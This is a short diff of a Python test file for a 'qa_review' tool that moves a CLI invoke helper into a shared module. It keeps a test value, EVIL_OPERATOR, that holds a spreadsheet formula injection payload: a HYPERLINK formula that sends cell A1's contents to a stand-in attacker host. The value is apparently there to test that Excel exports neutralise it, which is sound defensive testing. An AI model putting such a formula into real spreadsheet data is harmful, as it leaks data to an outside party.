@@ -5,22 +5,16 @@ import io
 import json
 
 import pytest
-from click.testing import CliRunner
 from openpyxl import load_workbook
 
-from qa_review.cli import cli
 from qa_review.core.permissions import User
 from qa_review.services import review, scoring
 from qa_review.services.database import open_database
+from tests.cli_runner import invoke
 
 SUPERVISOR = User("sup", "supervisor")
+
 EVIL_OPERATOR = '=HYPERLINK("http://evil.example/?"&A1,"Открыть")'
-
-
-def invoke(*args):
-    result = CliRunner().invoke(cli, [str(a) for a in args])
-    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
-    return result
 
 
 @pytest.fixture
